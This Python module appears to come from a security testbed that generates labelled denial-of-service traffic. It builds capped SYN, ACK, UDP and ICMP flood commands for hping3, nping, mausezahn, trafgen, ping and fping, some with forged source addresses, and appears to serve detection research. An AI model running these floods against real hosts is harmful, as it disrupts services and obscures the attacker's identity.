"""Denial of service by packets: each run is capped at about two thousand of the attacker's."""

from testbed.attacks.material import ANYWHERE, forged, frames, hardware_address, maybe, others, words
from testbed.catalogue import Assault, attack

NETWORK = "T1498.001"
RAW = ("outside", "intruder", "client")
TCP_PORTS = (21, 22, 25, 80, 80, 443, 443, 445, 3306, 5432, 8080)


def interval(c, slowest: int = 3000) -> str:
    """Microseconds between two packets."""
    return f"-i u{c.between(400, slowest)}"


def victim(c) -> str:
    return others(c, 1, servers_only=True)[0]


@attack("dos_syn_flood", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=20)
def hping_syn(c):
    flood = words(
        "hping3 -q -S",
        f"-p {c.choose(*TCP_PORTS)}",
        f"-w {c.choose(512, 1024, 5840, 64240, 65535)}",
        maybe(c, 0.3, f"-d {c.between(10, 200)}"),
        maybe(c, 0.3, f"-t {c.between(40, 250)}"),
    )
    if c.chance(0.4):
        return Assault(f"{flood} {interval(c)} -c {c.between(700, 1800)} {victim(c)}", variant="own address")
    sources = forged(c, c.between(2, 40))
    each = c.between(800, 1800) // len(sources)
    target, wait = victim(c), interval(c)
    return Assault(
        f"printf '%s\\n' {' '.join(sources)} | xargs -P {c.between(1, 6)} -I SOURCE {flood} {wait} -c {each}"
        f" -a SOURCE {target}",
        variant=f"{len(sources)} forged addresses",
    )


@attack("dos_syn_flood", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=20)
def nping_syn(c):
    source = maybe(c, 0.5, f"-S {forged(c, 1)[0]}")
    return Assault(
        words(
            "nping -q --send-ip --tcp --flags syn -N",
            f"-p {c.choose(*TCP_PORTS)} -g {c.between(1024, 65000)}",
            f"--rate {c.between(100, 600)} -c {c.between(500, 1500)} --win {c.choose(512, 1480, 65535)}",
            source,
            victim(c),
        )
    )


@attack(
    "dos_syn_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng", "arping"), seconds=20
)
def mausezahn_syn(c):
    source, target, port = forged(c, 1)[0], victim(c), c.choose(*TCP_PORTS)
    return Assault(
        f"mausezahn {c.host.device} -b {hardware_address(c, target)} -A {source} -B {target} -t tcp"
        f" 'flags=syn,dp={port},sp=1024-{c.between(1400, 2400)}' -c 1 -d {c.between(500, 2500)}usec -q",
        evidence=frames(c, "tcp", [target], [port], [source]),
        variant="forged address",
    )


@attack("dos_syn_flood", technique=NETWORK, tool="trafgen", origins=RAW, packages=("netsniff-ng", "arping"), seconds=20)
def trafgen_syn(c):
    source, target, port = forged(c, 1)[0], victim(c), c.choose(*TCP_PORTS)
    packet = (
        f"{{ eth(da=%s), ipv4(saddr={source}, daddr={target}, ttl={c.between(40, 128)}, id=drnd()),"
        f" tcp(sp=drnd(), dp={port}, syn, seq=drnd(), win={c.between(500, 65535)}) }}"
    )
    return Assault(
        f"printf '{packet}\\n' {hardware_address(c, target)} > packet.cfg; trafgen --cpp -P 1 -q"
        f" -n {c.between(700, 1800)} -t {c.between(500, 2500)}us -o {c.host.device} -c packet.cfg",
        evidence=frames(c, "tcp", [target], [port], [source]),
        variant="forged address",
    )


@attack("dos_tcp_flood_ack", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
def hping_ack(c):
    flags = c.choose("-A", "-A -P", "-R", "-A -F", "-A -U", "-X -Y")
    return Assault(
        words(
            f"hping3 -q {flags} -p {c.choose(*TCP_PORTS)}",
            maybe(c, 0.5, f"-k -s {c.between(1024, 65000)}"),
            maybe(c, 0.4, f"-d {c.between(10, 800)}"),
            maybe(c, 0.4, f"-a {forged(c, 1)[0]}"),
            interval(c),
            f"-c {c.between(600, 1700)} {victim(c)}",
        ),
        variant=flags,
    )


@attack("dos_tcp_flood_ack", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=15)
def nping_ack(c):
    flags = c.choose("ack", "rst", "ack,psh", "ack,fin")
    return Assault(
        f"nping -q --send-ip --tcp --flags {flags} -N -p {c.choose(*TCP_PORTS)} -g {c.between(1024, 65000)}"
        f" --seq {c.between(1, 2**31)} --ack {c.between(1, 2**31)} --rate {c.between(120, 600)}"
        f" -c {c.between(500, 1500)} {victim(c)}",
        variant=flags,
    )


@attack("dos_udp_flood", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
def hping_udp(c):
    port = c.choose("53", "80", "123", f"++{c.between(1000, 30000)}", str(c.between(1, 65000)))
    return Assault(
        words(
            f"hping3 -q --udp -p {port}",
            maybe(c, 0.5, f"-k -s {c.between(1024, 65000)}"),
            f"-d {c.between(1, 1200)} {interval(c)} -c {c.between(600, 1700)}",
            maybe(c, 0.3, f"-a {forged(c, 1)[0]}"),
            victim(c),
        )
    )


@attack("dos_udp_flood", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=15)
def nping_flood(c):
    ports = ",".join(map(str, c.random.sample(range(1, 9000), c.between(1, 6))))
    rounds = c.between(600, 1500) // (ports.count(",") + 1)
    return Assault(
        f"nping -q --send-ip --udp -N -p {ports} --data-length {c.between(1, 1100)} --rate {c.between(120, 700)}"
        f" -c {rounds} {victim(c)}"
    )


@attack(
    "dos_udp_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng", "arping"), seconds=15
)
def mausezahn_udp(c):
    target, port = victim(c), c.choose(53, 123, 161, 1900, 5060, c.between(1024, 60000))
    return Assault(
        f"mausezahn {c.host.device} -b {hardware_address(c, target)} -A {c.host.address} -B {target} -t udp 'dp={port},"
        f"sp={c.between(1024, 60000)}' -p {c.between(10, 1200)} -c {c.between(500, 1500)}"
        f" -d {c.between(500, 3000)}usec -q",
        evidence=frames(c, "udp", [target], [port]),
    )


@attack("dos_icmp_flood", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
def hping_icmp(c):
    return Assault(
        words(
            "hping3 -q -1",
            maybe(c, 0.3, f"--icmptype {c.choose(13, 17)}") or f"-d {c.between(10, 1300)}",
            f"{interval(c)} -c {c.between(600, 1700)}",
            maybe(c, 0.4, f"-a {forged(c, 1)[0]}"),
            victim(c),
        )
    )


@attack("dos_icmp_flood", technique=NETWORK, tool="ping -f", origins=ANYWHERE, packages=("iputils-ping",), seconds=15)
def ping_flood(c):
    return Assault(
        words(
            "ping -q -n -f",
            maybe(c, 0.5, f"-l {c.between(2, 8)}"),
            f"-c {c.between(700, 1700)} -s {c.between(16, 1300)} -W 1 {victim(c)}",
        )
    )


@attack("dos_icmp_flood", technique=NETWORK, tool="fping", origins=ANYWHERE, packages=("fping",), seconds=15)
def fping_flood(c):
    targets = others(c, c.between(1, 3), servers_only=True)
    return Assault(
        f"fping -q -p {c.between(10, 15)} -i 1 -t 500 -B 1 -c {c.between(700, 1500) // len(targets)}"
        f" -b {c.between(16, 1200)} {' '.join(targets)}"
    )


@attack("dos_icmp_flood", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=15)
def nping_icmp(c):
    return Assault(
        words(
            "nping -q --send-ip --icmp -N",
            f"--data-length {c.between(1, 1200)} --rate {c.between(120, 700)}",
            f"-c {c.between(600, 1500)}",
            maybe(c, 0.3, f"-S {forged(c, 1)[0]}"),
            victim(c),
        )
    )
